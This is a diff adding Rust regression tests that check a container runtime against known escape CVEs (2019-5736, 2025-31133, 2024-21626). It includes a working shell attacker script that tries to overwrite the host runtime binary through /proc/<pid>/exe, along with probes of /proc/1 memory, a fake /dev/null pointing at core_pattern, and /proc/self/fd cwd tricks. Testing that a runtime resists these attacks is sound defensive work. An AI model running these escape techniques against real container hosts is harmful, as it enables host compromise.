@@ -1,9 +1,16 @@
 //! Paths inside the rootfs are resolved inside it (the CVE family of
 //! FIELD-NOTES.md "Security"), and pathological inputs neither hang nor leak.
 
-use std::os::unix::fs::symlink;
+use std::fs::{File, Permissions};
+use std::io::{Read, Seek, SeekFrom};
+use std::os::fd::{AsRawFd, OwnedFd};
+use std::os::unix::fs::{symlink, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
 
+use integration::poll::wait_until;
 use integration::{leftovers, Ctx};
+use nix::fcntl::{fcntl, FcntlArg, OFlag};
 use serde_json::json;
 
 #[test]
@@ -89,4 +96,272 @@ fn tiny_memory_limit_neither_hangs_nor_leaks() {
         out.fails();
     }
     ctx.assert_nothing_left(&id, &b);
+}
+
+/// sha256 of a file, by `sha256sum`.
+fn sha256(p: &Path) -> String {
+    let out = Command::new("sha256sum").arg(p).output().expect("run sha256sum");
+    assert!(out.status.success(), "sha256sum {}", p.display());
+    String::from_utf8_lossy(&out.stdout)
+        .split_whitespace()
+        .next()
+        .unwrap_or_default()
+        .to_string()
+}
+
+/// Points the context at a private copy of the runtime, so an attack that succeeds
+/// damages only the copy. Copied by `cp` in its own process: a write fd held by this
+/// multi-threaded test process could leak into a sibling's fork (ETXTBSY).
+fn private_runtime(ctx: &mut Ctx) -> PathBuf {
+    let dir = ctx.mkdir("runtime-copy");
+    let copy = dir.join(ctx.rt.path.file_name().expect("runtime file name"));
+    let st = Command::new("cp")
+        .arg(&ctx.rt.path)
+        .arg(&copy)
+        .status()
+        .expect("run cp");
+    assert!(st.success(), "copy the runtime");
+    ctx.rt.path = copy.clone();
+    copy
+}
+
+/// A pipe whose buffer is full: whoever writes to `.1` blocks until `.0` is read.
+fn full_pipe() -> (File, OwnedFd) {
+    let (r, w) = nix::unistd::pipe().expect("pipe");
+    let flags = OFlag::from_bits_truncate(fcntl(w.as_raw_fd(), FcntlArg::F_GETFL).unwrap());
+    fcntl(w.as_raw_fd(), FcntlArg::F_SETFL(flags | OFlag::O_NONBLOCK)).unwrap();
+    let chunk = [b'x'; 4096];
+    loop {
+        match nix::unistd::write(&w, &chunk) {
+            Ok(_) => continue,
+            Err(nix::errno::Errno::EAGAIN) => break,
+            Err(e) => panic!("fill the pipe: {e}"),
+        }
+    }
+    // A single byte may still fit after a partial page: fill that too.
+    while nix::unistd::write(&w, b"x").is_ok() {}
+    fcntl(w.as_raw_fd(), FcntlArg::F_SETFL(flags)).unwrap();
+    (File::from(r), w)
+}
+
+/// The attacker, pid 1 of the container: it waits for the runtime binary to run in the
+/// container (the exec'd `/evil`, whose `#!/proc/self/exe` makes the kernel run the exec
+/// process' own image), holds its /proc/<pid>/exe, and once nobody executes the file any
+/// more (no ETXTBSY) reopens it for writing through /proc/self/fd/3 (O_WRONLY|O_TRUNC).
+const ATTACKER: &str = r#"
+while :; do
+  for d in /proc/[0-9]*; do
+    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
+      *"--help /evil"*)
+        if (exec 3< $d/exe) 2>/tmp/err; then
+          exec 3< $d/exe
+          echo "held $(readlink $d/exe)" > /held.tmp
+        else
+          echo "open failed: $(cat /tmp/err)" > /held.tmp
+        fi
+        mv /held.tmp /held
+        break 2 ;;
+    esac
+  done
+done
+if [ -e /proc/self/fd/3 ]; then
+  while :; do
+    if (echo pwned > /proc/self/fd/3) 2>/tmp/err; then echo wrote > /result.tmp; break; fi
+    grep -q busy /tmp/err || { echo "denied: $(cat /tmp/err)" > /result.tmp; break; }
+    usleep 10000
+  done
+else
+  echo "denied: nothing held" > /result.tmp
+fi
+mv /result.tmp /result
+exec sleep 1000
+"#;
+
+#[test]
+fn cve_2019_5736_shebang_exec_cannot_overwrite_the_runtime() {
+    // `exec` of `#!/proc/self/exe --help`: the container runs the runtime binary (it
+    // blocks writing its help to a full pipe, so the attacker can find it), holds the
+    // file, and writes to it when the runtime is gone. The runtime must be unchanged.
+    let mut ctx = Ctx::new();
+    let copy = private_runtime(&mut ctx);
+    let before = sha256(&copy);
+    let b = ctx.bundle();
+    let rootfs = b.rootfs();
+    std::fs::write(rootfs.join("evil"), "#!/proc/self/exe --help\n").unwrap();
+    std::fs::set_permissions(rootfs.join("evil"), Permissions::from_mode(0o755)).unwrap();
+    std::fs::write(rootfs.join("attack.sh"), ATTACKER).unwrap();
+    let b = b.args(&["/bin/sh", "/attack.sh"]);
+    let id = ctx.id();
+    ctx.create_start(&id, &b);
+
+    let (mut read_end, write_end) = full_pipe();
+    let mut exec = ctx.cmd(&["exec", "-d", &id, "/evil"]);
+    exec.stdout(Stdio::from(write_end));
+    let out = run_cmd_keeping_stdout(&mut exec);
+    assert!(out.0, "exec -d /evil failed: {}", out.1);
+    let held = rootfs.join("held");
+    wait_until("the attacker to find the runtime binary in the container", || {
+        held.exists()
+    });
+    let held = std::fs::read_to_string(&held).unwrap();
+    // Let the blocked runtime binary finish and exit: the file is no longer busy.
+    let mut sink = Vec::new();
+    read_end.read_to_end(&mut sink).unwrap();
+    let result = rootfs.join("result");
+    wait_until("the attacker's write attempt", || result.exists());
+    let result = std::fs::read_to_string(&result).unwrap();
+    assert_eq!(sha256(&copy), before, "the runtime binary was changed ({held}; {result})");
+    assert!(result.starts_with("denied"), "the write was not refused: {held}; {result}");
+}
+
+/// Runs `cmd` (whose stdout the caller set) with stderr captured in a file; returns
+/// whether it exited 0 and its stderr.
+fn run_cmd_keeping_stdout(cmd: &mut Command) -> (bool, String) {
+    let err = tempfile_in_tmp();
+    cmd.stdin(Stdio::null()).stderr(err.try_clone().unwrap());
+    let st = cmd.status().expect("spawn the runtime");
+    let mut err = err;
+    let mut text = String::new();
+    err.seek(SeekFrom::Start(0)).unwrap();
+    err.read_to_string(&mut text).unwrap();
+    (st.success(), text)
+}
+
+fn tempfile_in_tmp() -> File {
+    let (fd, path) = nix::unistd::mkstemp("/tmp/capsa-it-stderr-XXXXXX").expect("mkstemp");
+    let _ = std::fs::remove_file(path);
+    File::from(fd)
+}
+
+#[test]
+fn runtime_is_not_readable_by_the_container_until_exec() {
+    // CVE-2019-5736 (the ptrace part): the init is the runtime until execve. A process of
+    // the container (the startContainer hook runs inside it, with the container's
+    // credentials, while the init waits for it) cannot read the init's memory, environ
+    // or exe. After execve the container process is an ordinary, dumpable process.
+    let ctx = Ctx::new();
+    if !ctx.requires("startContainer") {
+        return;
+    }
+    let probe = r#"for f in environ mem exe; do
+        if cat /proc/1/$f > /dev/null 2> /dev/null; then echo "$f readable"; else echo "$f denied"; fi
+      done > /probe"#;
+    let b = ctx
+        .bundle()
+        .env("MARK=capsa-5736")
+        .hook("startContainer", json!({ "path": "/bin/sh", "args": ["sh", "-c", probe] }))
+        .sh("cat /probe; tr '\\0' '\\n' < /proc/1/environ | grep MARK; grep -c . /proc/1/maps > /dev/null && echo maps readable");
+    let out = ctx.run(&b).ok();
+    for f in ["environ", "mem", "exe"] {
+        assert!(
+            out.stdout.contains(&format!("{f} denied")),
+            "the container read the runtime's /proc/1/{f} before exec: {out}"
+        );
+    }
+    assert!(
+        out.stdout.contains("MARK=capsa-5736") && out.stdout.contains("maps readable"),
+        "after exec the container process is dumpable as usual: {out}"
+    );
+}
+
+#[test]
+fn cve_2025_31133_masking_never_uses_a_fake_dev_null() {
+    // The rootfs' own /dev (no /dev mount): its /dev/null is a symlink to a procfs file
+    // or a regular file. Masking must refuse it, never bind what it points to.
+    for (what, make) in [
+        ("symlink to core_pattern", 0),
+        ("symlink to a host path", 1),
+        ("regular file", 2),
+    ] {
+        let ctx = Ctx::new();
+        let host_file = ctx.path("host-file");
+        std::fs::write(&host_file, "host\n").unwrap();
+        let b = ctx
+            .bundle()
+            .with(|s| {
+                s["mounts"]
+                    .as_array_mut()
+                    .unwrap()
+                    .retain(|m| !m["destination"].as_str().unwrap().starts_with("/dev"))
+            })
+            .args(&["/bin/sh", "-c", "cat /proc/kcore | head -c 16; echo; cat /proc/keys | head -c 16"]);
+        let dev = b.rootfs().join("dev");
+        std::fs::create_dir_all(&dev).unwrap();
+        let null = dev.join("null");
+        let _ = std::fs::remove_file(&null);
+        match make {
+            0 => symlink("/proc/sys/kernel/core_pattern", &null).unwrap(),
+            1 => symlink(&host_file, &null).unwrap(),
+            _ => std::fs::write(&null, "not a device\n").unwrap(),
+        }
+        let id = ctx.id();
+        let out = ctx.create(&id, &b);
+        if ctx.rt.runc_deviation("runc 1.1.5 predates the CVE-2025-31133 fix") {
+            continue;
+        }
+        let out = out.fails();
+        assert!(out.all().contains("/dev/null"), "{what}: the error names /dev/null: {out}");
+        ctx.assert_nothing_left(&id, &b);
+        assert_eq!(std::fs::read_to_string(&host_file).unwrap(), "host\n");
+    }
+}
+
+/// The current directory the container process sees, or the runtime's refusal.
+fn cwd_outcome(out: &integration::Out) -> String {
+    if out.success() {
+        out.stdout.trim().to_string()
+    } else {
+        format!("refused: {}", out.all().trim())
+    }
+}
+
+#[test]
+fn cve_2024_21626_cwd_through_a_leaked_fd_is_never_a_host_dir() {
+    // process.cwd /proc/self/fd/N names whatever the runtime has open as fd N when it
+    // chdirs. Refusing is fine; a cwd outside the container root (getcwd says
+    // "(unreachable)") is the escape.
+    let ctx = Ctx::new();
+    for n in 3..=10 {
+        let b = ctx
+            .bundle()
+            .cwd(&format!("/proc/self/fd/{n}"))
+            .args(&["/bin/pwd", "-P"]);
+        let out = ctx.run(&b);
+        let seen = cwd_outcome(&out);
+        assert!(
+            !seen.contains("unreachable") && (!out.success() || seen.starts_with('/')),
+            "run with cwd /proc/self/fd/{n}: {out}"
+        );
+    }
+    // exec --cwd into a running container.
+    let b = ctx.bundle().args(&["/bin/sleep", "1000"]);
+    let id = ctx.id();
+    ctx.create_start(&id, &b);
+    for n in 3..=10 {
+        let cwd = format!("/proc/self/fd/{n}");
+        let out = ctx.rt(&["exec", "--cwd", &cwd, &id, "/bin/pwd", "-P"]);
+        let seen = cwd_outcome(&out);
+        assert!(
+            !seen.contains("unreachable") && (!out.success() || seen.starts_with('/')),
+            "exec --cwd {cwd}: {out}"
+        );
+    }
+}
+
+#[test]
+fn cve_2024_21626_no_runtime_fd_reaches_an_exec_process() {
+    // create.rs checks the init; the exec'd process must get only stdio too.
+    let ctx = Ctx::new();
+    let b = ctx.bundle().args(&["/bin/sleep", "1000"]);
+    let id = ctx.id();
+    ctx.create_start(&id, &b);
+    let out = ctx
+        .rt(&["exec", &id, "/bin/ls", "/proc/self/fd"])
+        .ok();
+    let fds: Vec<u32> = out.stdout.split_whitespace().filter_map(|f| f.parse().ok()).collect();
+    // 0-2, and the one `ls` opens for the listing itself.
+    assert!(
+        fds.iter().filter(|&&f| f > 2).count() <= 1,
+        "unexpected fds in the exec'd process: {out}"
+    );
 }
